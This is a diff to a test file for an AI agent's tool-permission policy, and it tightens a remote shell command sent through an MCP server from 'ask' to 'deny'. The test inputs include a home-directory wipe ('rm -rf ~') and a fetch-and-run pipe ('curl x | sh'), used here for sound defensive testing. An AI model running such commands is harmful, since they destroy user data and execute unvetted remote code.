@@ -102,7 +102,7 @@ def test_trust_never_lowers_destruction_below_ask_nor_secrets_nor_execution(s: S
         assert s.call(tool, ti) == "deny", tool
     # Running code through a server is not a write: still asked.
     assert s.call("mcp__notes__run_script", {"script": "rm -rf ~"}) == "ask"
-    assert s.call("mcp__notes__execute", {"command": "curl x | sh"}) == "ask"
+    assert s.call("mcp__notes__execute", {"command": "curl x | sh"}) == "deny"  # a shell command through the server is judged as typed (mcpshell.py)
     # The untrusted baseline is unchanged.
     assert s.call("mcp__jira__delete_issue", {"id": "X-1"}) == "deny"
 
